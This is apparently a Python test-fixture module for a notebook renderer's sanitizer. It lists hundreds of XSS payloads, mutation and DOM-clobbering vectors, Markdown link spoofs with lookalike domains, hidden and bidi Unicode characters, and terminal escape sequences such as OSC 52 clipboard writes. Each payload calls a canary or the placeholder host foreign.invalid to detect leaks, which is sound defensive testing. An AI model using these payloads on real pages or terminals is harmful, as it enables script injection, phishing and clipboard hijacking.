"""Foreign text that wants to act: run a script, load something, lead away, hide. Values only.

`{n}` is the payload's number: what gets through calls `canary(n)`, or asks `foreign.invalid` for something with it.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

FOREIGN = "https://foreign.invalid"

HTML = r"""
<script>canary({n})</script>
<script src="https://foreign.invalid/{n}.js"></script>
<script type="module">canary({n})</script>
<ScRiPt/x>canary({n})</ScRiPt>
<scr<script>ipt>canary({n})</scr</script>ipt>
</script><script>canary({n})//
<img src=x onerror=canary({n})>
<img src=x onerror="canary({n})" hidden
<img/src=x/onerror=canary({n})//
<img src="https://foreign.invalid/{n}.png">
<img srcset="https://foreign.invalid/{n}.png 1x">
<img src=x:x onerror&#61;canary({n})>
<IMG '''><SCRIPT>canary({n})</SCRIPT>'>
<picture><source srcset=https://foreign.invalid/{n}.webp><img></picture>
<svg onload=canary({n})></svg>
<svg><script>canary({n})</script></svg>
<svg><script href="https://foreign.invalid/{n}.js"></script></svg>
<svg><animate onbegin=canary({n}) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:canary({n})"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><image href="https://foreign.invalid/{n}.png"></image></svg>
<svg><foreignObject><img src=x onerror=canary({n})></foreignObject></svg>
<svg><style>@import url(https://foreign.invalid/{n}.css)</style></svg>
<svg></p><style><a id="</style><img src=1 onerror=canary({n})>">
<math href="javascript:canary({n})">x</math>
<math><mi xlink:href="data:text/html,<script>canary({n})</script>">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary({n})&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary({n})>
<iframe src="javascript:parent.canary({n})"></iframe>
<iframe srcdoc="<script>parent.canary({n})</script>"></iframe>
<iframe src="https://foreign.invalid/{n}"></iframe>
<frameset onload=canary({n})><frame></frameset>
<object data="https://foreign.invalid/{n}"></object>
<object data="javascript:canary({n})"></object>
<embed src="https://foreign.invalid/{n}.swf">
<embed src="data:text/html,<script>canary({n})</script>">
<applet code="canary" codebase="https://foreign.invalid/{n}"></applet>
<link rel=stylesheet href="https://foreign.invalid/{n}.css">
<link rel=preload as=image href="https://foreign.invalid/{n}.png">
<style>* { background: url(https://foreign.invalid/{n}.png) }</style>
<style>@import "https://foreign.invalid/{n}.css";</style>
<p style="background:url(https://foreign.invalid/{n}.png);position:fixed;inset:0;z-index:9999">over</p>
<div style="width:expression(canary({n}))">x</div>
<meta http-equiv=refresh content="0;url=https://foreign.invalid/{n}">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'">
<base href="https://foreign.invalid/{n}/">
<form action="https://foreign.invalid/{n}"><button>Go</button></form>
<form action="javascript:canary({n})"><input type=submit autofocus></form>
<button formaction="javascript:canary({n})" onclick="canary({n})">Run</button>
<button data-commandlinker-command="canary:fire" data-commandlinker-args="{}">Run</button>
<a href="#" data-commandlinker-command="canary:fire">Open</a>
<div data-commandlinker-command="canary:fire" class="jp-Cabinet-button">x</div>
<div data-command="canary:fire" class="jp-ToolbarButtonComponent">x</div>
<input onfocus=canary({n}) autofocus>
<select onfocus=canary({n}) autofocus></select>
<textarea onfocus=canary({n}) autofocus></textarea>
<details open ontoggle=canary({n})><summary>x</summary></details>
<video autoplay onloadstart=canary({n}) src="https://foreign.invalid/{n}.mp4"></video>
<video poster="https://foreign.invalid/{n}.png"></video>
<audio src=x onerror=canary({n})></audio>
<body onload=canary({n}) background="https://foreign.invalid/{n}.png">
<table background="https://foreign.invalid/{n}.png"><td>x</td></table>
<marquee onstart=canary({n})>x</marquee>
<dialog open>x</dialog>
<template><img src=x onerror=canary({n})></template>
<template shadowrootmode=open><img src=x onerror=canary({n})></template>
<noscript><p title="</noscript><img src=x onerror=canary({n})>">
<textarea></textarea><img src=x onerror=canary({n})>
<title></title><img src=x onerror=canary({n})>
<xmp><img src=x onerror=canary({n})></xmp>
<plaintext><img src=x onerror=canary({n})>
<portal src="https://foreign.invalid/{n}"></portal>
<a href="javascript:canary({n})">x</a>
<a href=" &#14; javascript:canary({n})">x</a>
<a href="jav&#x09;ascript:canary({n})">x</a>
<a href="data:text/html,<script>canary({n})</script>">x</a>
<a href="vbscript:canary({n})">x</a>
<a href="https://foreign.invalid/{n}" target=_self ping="https://foreign.invalid/{n}">x</a>
<a href="/lab?reset" class="jp-mod-styled">reset</a>
<a id=jupyterapp name=body href="x:y">clobber</a>
<form name=body><input name=parentNode id=attributes></form>
<span class="jp-Cabinet-trust" role="alert" aria-live="assertive">Trusted</span>
<!--><img src=x onerror=canary({n})>-->
<!-- --!><img src=x onerror=canary({n})>
<![CDATA[><img src=x onerror=canary({n})>]]>
<?xml-stylesheet href="javascript:canary({n})"?><img src=x onerror=canary({n})>
<!DOCTYPE html [<!ENTITY x SYSTEM "https://foreign.invalid/{n}">]>&x;
&lt;img src=x onerror=canary({n})&gt;
&amp;lt;img src=x onerror=canary({n})&amp;gt;
&#60;img src=x onerror=canary({n})&#62;
&#x3c;script&#x3e;canary({n})&#x3c;/script&#x3e;
\u003cimg src=x onerror=canary({n})\u003e
%3Cimg%20src=x%20onerror=canary({n})%3E
＜img src=x onerror=canary({n})＞
""".strip().splitlines()

MARKDOWN = r"""
![x](https://foreign.invalid/{n}.png)
![x][{n}]¶¶[{n}]: https://foreign.invalid/{n}.png "t"
[![x](https://foreign.invalid/{n}.png)](javascript:canary({n}))
![x](data:image/svg+xml,<svg onload=canary({n})>)
![<img src=x onerror=canary({n})>](x)
![x](x "onerror=canary({n})")
![x" onerror="canary({n})](x)
![attachment](attachment:x.png)
[x](javascript:canary({n}))
[x](JaVaScRiPt:canary({n}))
[x](java%73cript:canary({n}))
[x](javascript&colon;canary({n}))
[x](java&#115;cript:canary({n}))
[x](java&Tab;script:canary({n}))
[x](&#1;javascript:canary({n}))
[x](<javascript:canary({n})>)
[x](<java script:canary({n})>)
[x][a{n}]¶¶[a{n}]: javascript:canary({n})
[x](vbscript:canary({n}))
[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)
[x](blob:https://foreign.invalid/{n})
[x](file:///etc/passwd)
[x](view-source:https://foreign.invalid/{n})
[x](//foreign.invalid/{n})
[x](/lab/workspaces/auto-x?reset)
[x](?reset&clone=x)
[x](../../secret{n}.ipynb)
[x](#{n})
[x](command:canary:fire)
[x](vscode://file/{n})
[x](mailto:a@foreign.invalid?bcc={n})
[x](https://foreign.invalid/{n})
[https://bank.example/](https://foreign.invalid/{n})
[bank.example](https://foreign.invalid/{n} "https://bank.example/")
[`https://bank.example/`](https://foreign.invalid/{n})
[https://bank.example/&#x200b;](https://foreign.invalid/{n})
[https://bank.example@foreign.invalid/{n}](https://bank.example@foreign.invalid/{n})
[x](https://user:word@foreign.invalid/{n})
[x](https:\\foreign.invalid\{n})
[https://аррӏе.example/{n}](https://аррӏе.example/{n})
https://аррӏе.example/{n}
[HTTPS://BANK.EXAMPLE/{n}](https://bank.example/{n})
[https://bank.example\.foreign.invalid/{n}](https://bank.example\.foreign.invalid/{n})
https://foreign.invalid/{n}
<https://foreign.invalid/{n}>
<javascript:canary({n})>
www.foreign.invalid/{n}
someone{n}@foreign.invalid
[x](https://foreign.invalid/{n} "a" onclick="canary({n})")
[x](https://foreign.invalid/{n}"onmouseover="canary({n}))
[x]("onclick=canary({n})//)
[<img src=x onerror=canary({n})>](https://foreign.invalid/{n})
[x](https://foreign.invalid/{n}){onclick=canary({n})}
# x {#id onclick=canary({n})}
# <img src=x onerror=canary({n})>
- [ ] <input onfocus=canary({n})>¶- [x] done
> <img src=x onerror=canary({n})>
| a | b |¶|---|---|¶| <img src=x onerror=canary({n})> | [x](javascript:canary({n})) |
x[^{n}]¶¶[^{n}]: <img src=x onerror=canary({n})>
1. <iframe src=javascript:canary({n})>
**<b onclick=canary({n})>x</b>** ~~<s>x</s>~~
`<img src=x onerror=canary({n})>`
```html¶<script>canary({n})</script>¶```
```"><img src=x onerror=canary({n})>¶x¶```
```mermaid¶graph TD; A["<img src=x onerror=canary({n})>"]; click A "javascript:canary({n})"¶```
~~~ MerMaid¶graph TD; A --> B¶~~~
```vega-lite¶{"data": {"url": "https://foreign.invalid/{n}.json"}, "mark": "bar"}¶```
```svg¶<svg onload=canary({n})></svg>¶```
```{code-cell}¶canary({n})¶```
    <script>canary({n})</script>
$\href{javascript:canary({n})}{x}$
$$\require{html}\href{https://foreign.invalid/{n}}{x}\unicode{x3c}$$
\(\style{background:url(https://foreign.invalid/{n}.png)}{x}\)
\begin{equation}\class{jp-Cabinet-button}{x}\cssId{x{n}}{y}\end{equation}
:::{iframe} https://foreign.invalid/{n}¶:::
{{< include https://foreign.invalid/{n} >}}
---¶title: <img src=x onerror=canary({n})>¶---
@"<img src=x onerror=canary({n})>" @../../etc/passwd
""".strip().splitlines()

# Characters without their own shape, or that change the shape of others.
HIDDEN = [0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F, 0x7F, 0x85, 0x9B, 0x9D, 0xAD, 0x34F, 0x61C, 0x115F, 0x17B4]
HIDDEN += [0x180E, *range(0x200B, 0x2010), 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x3164]
HIDDEN += [0xE000, 0xE0F1, 0xF8FF, 0xFE0E, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC, 0x1D173, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF]

_DISGUISES = (
    "{}",
    "> {}",
    "- {}",
    "| x |\n|---|\n| {} |",
    "<b>{}</b>",
    "<!-- {} -->",
    "text <x\x00y>{}",
    "`x` {} `y",
    "\\{}",
    "<div>\n\n{}\n\n</div>",
    "[{}](https://bank.example/)",
    "\u202e{}\u202c",
)


def markup() -> list[str]:
    """Every piece of HTML as it is and in a disguise, every piece of Markdown, every hidden character."""
    return [text.replace("{n}", str(number)).replace("¶", "\n") for number, text in enumerate(_templates())]


def _templates() -> Iterator[str]:
    yield from HTML
    for html, disguise in zip(HTML, cycle(_DISGUISES[1:])):
        yield disguise.replace("{}", html)
    for html in HTML[::3]:
        yield html.upper().replace("{N}", "{n}").replace("CANARY", "canary")
    yield from MARKDOWN
    yield from (f"a{chr(code)}b &#{code};c `d{chr(code)}e`" for code in HIDDEN)
    yield "x" * 20_000
    yield "<" * 3_000 + "img src=x onerror=canary({n})" + ">" * 3_000
    yield "> " * 200 + "<img src=x onerror=canary({n})>"
    yield "[" * 300 + "x" + "](javascript:canary({n}))" * 300


# For where a single line stands: names, titles, warnings, questions.
LINES = [
    "<img src=x onerror=canary(9001)>",
    '"><script>canary(9002)</script>',
    "<svg/onload=canary(9003)>",
    "![x](https://foreign.invalid/9004.png) [x](javascript:canary(9004))",
    '<a data-commandlinker-command="canary:fire">Open</a>',
    "a\u202ecod.exe\u202c b\u200bc\u2066d\u2069\U000e0041",
    "%1 %2 ${canary(9005)} {{canary(9006)}}",
    "y" * 3_000,
]

# What a program may write into a terminal: clipboard, titles, hyperlinks, files, pictures, reports, notifications.
TERMINAL = b"\r\n".join(
    [
        b"z" * 20_000,
        b"\x1b]52;c;c3RvbGVu\x07 OSC 52",
        b"\x1b]52;p;c3RvbGVu\x1b\\ OSC 52 with ST",
        b"\x1b]52;c;?\x07 OSC 52 asks",
        b"\x1b]8;;javascript:canary(9101)\x1b\\script link\x1b]8;;\x1b\\",
        b"\x1b]8;;data:text/html,<script>canary(9102)</script>\x07data link\x1b]8;;\x07",
        b"\x1b]8;;file:///etc/passwd\x1b\\file link\x1b]8;;\x1b\\",
        b"\x1b]8;;https://foreign.invalid/9103\x1b\\https://bank.example/\x1b]8;;\x1b\\",
        b"\x1b]8;;https://bank.example@foreign.invalid/9104\x1b\\user link\x1b]8;;\x1b\\",
        b"\x1b]0;<img src=x onerror=canary(9105)>\x07 title",
        b"\x1b]2;\xe2\x80\xae title\x07",
        b"\x1b]9;notify\x07\x1b]777;notify;a;b\x07\x1b]99;;x\x1b\\ notifications",
        b"\x1b]1337;File=name=eA==;inline=0:eA==\x07\x1b]1337;Copy=:c3RvbGVu\x07 iTerm",
        b"\x1b]50;font\x07\x1b]4;1;?\x07\x1b]10;?\x07 colours",
        b"\x1bPq#0;2;0;0;0#0~~\x1b\\ sixel",
        b"\x1b_Ga=T,f=100;iVBORw0=\x1b\\ kitty",
        b"\x1b[21t\x1b[c\x1b[6n\x1bP$qm\x1b\\\x1b[?1000h reports",
        b"<img src=x onerror=canary(9106)><script>canary(9107)</script>",
        "\u202ebidi\u202c zero\u200bwidth".encode(),
        b"\x9b31mC1\x9d52;c;c3RvbGVu\x9c \xff\xfe\xc0\x80 invalid",
        b"https://foreign.invalid/9108",
        b"\x1b[?1049h\x1b[2J\x1b[Halternate\x1b[?1049l\x1b[!p",
        b"the last line",
    ]
)
